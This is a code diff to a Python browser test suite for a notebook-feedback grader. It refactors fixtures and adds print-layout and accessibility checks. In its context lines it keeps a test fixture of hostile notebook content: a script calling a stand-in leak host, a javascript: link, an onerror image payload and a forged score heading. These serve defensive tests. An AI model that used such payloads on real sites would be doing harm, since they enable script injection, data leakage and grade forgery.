@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import os
 import shutil
 import subprocess
 from collections.abc import Iterator
@@ -12,12 +11,10 @@ from pathlib import Path
 import nbformat
 import pytest
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
-from playwright.sync_api import sync_playwright
 
+from tests.browser import CONTRAST, print_problems
 from tests.conftest import BIN, SHORT, hand_in
-from tests.flow.test_formgrader import CHROMIUM
-from viva.doctor import find_browser
-from viva.hidden import Hidden, Veil, hidden_of
+from viva.pages.hidden import Hidden, Veil, hidden_of
 
 pytestmark = [pytest.mark.xdist_group("browser"), pytest.mark.slow]
 
@@ -33,48 +30,7 @@ HOSTILE = """<script>fetch('https://leak.example/1'); document.title = 'taken'</
 <h1 id="score">Score: 25 of 25</h1>
 $\\href{javascript:document.title='taken'}{x}$ $\\text{<img src=x onerror=document.title='taken'>}$
 """
-WIDTHS = {390: 844, 1280: 900}
-
-CONTRAST = """() => {
-  const canvas = document.createElement('canvas').getContext('2d', {willReadFrequently: true});
-  const rgba = colour => {
-    canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = colour; canvas.fillRect(0, 0, 1, 1);
-    return canvas.getImageData(0, 0, 1, 1).data;
-  };
-  const light = colour => {
-    const [r, g, b] = [...colour].slice(0, 3).map(v => v / 255).map(
-      v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
-    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
-  };
-  const behind = element => {
-    for (let e = element; e; e = e.parentElement) {
-      const found = rgba(getComputedStyle(e).backgroundColor);
-      if (found[3] === 255) return found;
-    }
-    return rgba('white');
-  };
-  const poor = new Map();
-  for (const element of document.querySelectorAll('body *')) {
-    if (![...element.childNodes].some(n => n.nodeType === 3 && n.data.trim())) continue;
-    const style = getComputedStyle(element);
-    const [a, b] = [light(rgba(style.color)), light(behind(element))].sort((x, y) => y - x);
-    const ratio = (a + 0.05) / (b + 0.05);
-    if (ratio < 4.5) poor.set(`${element.tagName}.${element.className}`, ratio.toFixed(2));
-  }
-  return [...poor];
-}"""
-
-
-@pytest.fixture(scope="module")
-def browser():
-    path = find_browser()
-    if path is None:
-        sentence = "There is no browser to look at feedback with. Install one: sudo apt-get install chromium"
-        (pytest.fail if os.environ.get("VIVA_NOTHING_SKIPPED") else pytest.skip)(sentence)
-    with sync_playwright() as playwright:
-        chromium = playwright.chromium.launch(executable_path=path, args=CHROMIUM)
-        yield chromium
-        chromium.close()
+WIDTHS = {375: 812, 1280: 900}
 
 
 @pytest.fixture(scope="module")
@@ -137,9 +93,16 @@ def test_every_text_has_contrast_enough(course, browser, scheme):
     seen = [*course.glob("feedback/demo-0[12]/*/*.html"), *course.glob("feedback/mallory/*/*.html")]
     assert len(seen) > 5
     for path in seen:
-        page, _ = look(browser, path, 390, scheme)
+        page, _ = look(browser, path, 375, scheme)
         page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
         assert page.evaluate(CONTRAST) == [], path
+        page.context.close()
+
+
+def test_on_paper_every_page_is_light_unfolded_and_not_cut_off(course, browser):
+    for path in [*course.glob("feedback/demo-0[12]/*/*.html"), *course.glob("feedback/mallory/*/*.html")]:
+        page, _ = look(browser, path, 1280, "dark")
+        assert print_problems(page) == [], path
         page.context.close()
 
 
@@ -158,7 +121,7 @@ def test_a_hostile_notebook_runs_nothing_and_stays_in_its_cells(course, browser)
 
 
 def test_a_reader_with_a_keyboard_or_without_eyes_finds_the_way(course, browser):
-    page, _ = look(browser, next(pages(course)), 390)
+    page, _ = look(browser, next(pages(course)), 375)
     page.keyboard.press("Tab")
     assert page.evaluate("document.activeElement.className") == "skip"
     page.keyboard.press("Enter")
@@ -168,6 +131,7 @@ def test_a_reader_with_a_keyboard_or_without_eyes_finds_the_way(course, browser)
         assert page.locator(landmark).count() == 1
     assert page.locator("img:not([alt]), img[alt='']").count() == 0
     assert page.locator("table:not(:has(th))").count() == 0
+    assert page.locator("th:empty, summary a").count() == 0
     ids = page.evaluate("[...document.querySelectorAll('[id]')].map(e => e.id)")
     assert len(ids) == len(set(ids))
     broken = "[...document.querySelectorAll('a[href^=\"#\"]')].filter(a => !document.getElementById(a.hash.slice(1)))"
